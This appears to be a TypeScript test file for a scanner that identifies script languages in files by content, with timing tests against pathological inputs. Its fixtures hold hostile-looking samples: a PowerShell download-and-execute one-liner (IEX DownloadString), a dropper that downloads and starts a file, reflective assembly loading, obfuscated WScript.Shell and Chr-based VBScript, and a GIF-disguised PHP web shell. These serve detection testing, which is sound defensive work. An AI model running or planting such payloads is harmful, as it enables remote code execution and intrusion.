// Programs in text by content: one of each language, and the honest texts that come near.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { SOON_MS, spentMs } from '../../../test/processor.ts';
import { scriptKind } from './scripts.ts';

const kind = (text: string | Buffer, name: string | null = null): string | null => scriptKind(name, Buffer.from(text as string));

const POWERSHELL =
  '$url = "https://example.org/a"\n$file = Join-Path $env:TEMP "a"\nInvoke-WebRequest -Uri $url -OutFile $file\nStart-Process $file\n';
const VBSCRIPT = 'On Error Resume Next\r\nDim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "notepad", 0\r\n';
const BATCH = '@echo off\r\nrem works alone\r\nset X=1\r\nstart "" notepad.exe\r\nexit /b\r\n';

for (const [language, texts] of Object.entries({
  shell_script: ['#!/bin/sh\necho 1\n', '\ufeff#! /usr/bin/env python3\nprint(1)\n'],
  powershell: [
    POWERSHELL,
    `# ${'a comment that explains what this does at length\n# '.repeat(30)}\n${POWERSHELL}`,
    'IEX (New-Object Net.WebClient).DownloadString("https://example.org")',
    '$b = [Convert]::FromBase64String("AAAA")\n[Reflection.Assembly]::Load($b)\n',
    'param([string]$Name)\nImport-Module ActiveDirectory\n$u = Get-ADUser $Name\nSet-ADUser $u -Enabled $false\n',
    Buffer.from(`\ufeff${POWERSHELL}`, 'utf16le'),
  ],
  vbscript: [
    VBSCRIPT,
    `' ${"this is a comment that goes on and on\r\n' ".repeat(50)}\r\n${VBSCRIPT}`,
    'Dim a\r\nSet a = CreateObject("WSc" & "ript.Sh" & "ell")\r\n',
    `Execute(${Array.from({ length: 30 }, (_, n) => `Chr(${60 + n})`).join(' & ')})\r\n`,
    'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")\r\n',
  ],
  jscript: [
    'var s = new ActiveXObject("WScript.Shell"); s.Run("notepad");',
    'var s = WScript.CreateObject("Shell.Application");\nWScript.Sleep(5);\n',
    'var q = new ActiveXObject("WSc" + "ript" + ".Shell");',
    `/* ${'All of this is a comment that only makes the file look like a letter. \n'.repeat(20)} */ new ActiveXObject("ADODB.Stream");`,
  ],
  batch: [BATCH, ':: made by hand\r\n@ECHO OFF\r\necho Please wait while we copy all of the files to you\r\ncopy a b\r\n'],
  hta: ['<html><head><hta:application id="a"/></head><script>1</script></html>'],
  wsf: [
    '<?xml version="1.0"?>\n<job id="a"><script language="VBScript">x</script></job>',
    '<package><job><script language="JScript" src="a.js"/></job></package>',
  ],
  scriptlet: ['<?xml version="1.0"?><scriptlet><registration progid="a"/><script language="JScript">x</script></scriptlet>'],
  xsl_script: [
    '<xsl:stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script implements-prefix="u" language="JScript">x</ms:script></xsl:stylesheet>',
  ],
  php: ['<?php\nphpinfo();\n', 'GIF89a\n<?php system($_GET["a"]); ?>'],
  applescript: ['tell application "Finder"\n  activate\nend tell\n', 'do shell script "open ."\n'],
  encoded_script: ['#@~^DgAAAA==\\ko4G6,J4rJqAQAAA==^#~@'],
}))
  test(`${language} is told by content`, () => {
    for (const text of texts) assert.equal(kind(text), language, String(text).slice(0, 60));
  });

const README = `# The tool

This is a small tool that reads a file and writes another one.
To install it on your machine you run the following commands.

    @echo off
    set PATH=%PATH%;C:\\tool
    $x = Get-Content a.txt
    Invoke-Expression $x

Then you may start it from the menu as you like.
Please tell us if there is anything that does not work.
`;

test('honest texts are no programs', () => {
  for (const [name, text] of Object.entries({
    'README.md': README,
    'readme.txt': README,
    'fenced.txt': `How to:\n\`\`\`powershell\n${POWERSHELL}\`\`\`\n`,
    'a.log': '2026-01-01 10:00:00 INFO Start-Process a\n2026-01-01 10:00:01 INFO echo off\n',
    'session.txt': `PS C:\\> $x = Get-Item a\nPS C:\\> Start-Process b\nPS C:\\> $y = Get-Item c\n`,
    'a.tex': '\\documentclass{article}\n\\begin{document}\nHello $x = y$ and $z = 1$.\n\\end{document}\n',
    'a.eml': 'From: a@example.org\r\nTo: b@example.org\r\nDate: x\r\nMIME-Version: 1.0\r\nX-Get-Data: 1\r\n\r\n$a = 5\r\n',
    'a.json': JSON.stringify({ run: VBSCRIPT, ps: POWERSHELL, bat: BATCH }),
    'a.xml': '<?xml version="1.0"?><project><job><steps>powershell -Command Get-Item</steps></job></project>',
    'a.csv': 'name;value\nSet-Up;1\n$total = 5;2\n',
    'old.js': 'function a(){ return window.ActiveXObject ? new ActiveXObject("Microsoft.XMLHTTP") : new XMLHttpRequest(); }',
    'a.rs': '#![allow(dead_code)]\nfn main() {}\n',
    'a.c': '#include <stdio.h>\nint main(void) { return 0; }\n',
    'letter.txt': 'Dear all,\n\nset aside some time, and call me when you start.\nEcho off the wall was nice.\n',
    'cities.txt': 'Set\nFunction\nSub\nPublic\nPrivate\n',
    'a.html': '<!DOCTYPE html><html><script language="javascript">var x = 1;</script></html>',
    'zeros.bin': `${BATCH}\0\x01\x02`,
  }))
    assert.equal(kind(text, name), null, name);
  assert.equal(kind(''), null);
});

test('hostile texts end soon', () => {
  for (const piece of [
    '$a=',
    '<job ',
    '" + ',
    "'",
    '<!-- ',
    ' ',
    '\n',
    'a ',
    '/*',
    'WScript',
    'Chr(',
    '<?xml ',
    '[',
    'new ActiveXObject',
    'Get-A',
    '\u4e2d',
  ])
    for (const before of ['', '<', '<job><x>', '\n']) {
      const started = spentMs();
      kind(before + piece.repeat(600_000 / piece.length));
      assert.ok(spentMs() - started < SOON_MS, `${before}${piece} ${spentMs() - started}`);
    }
});
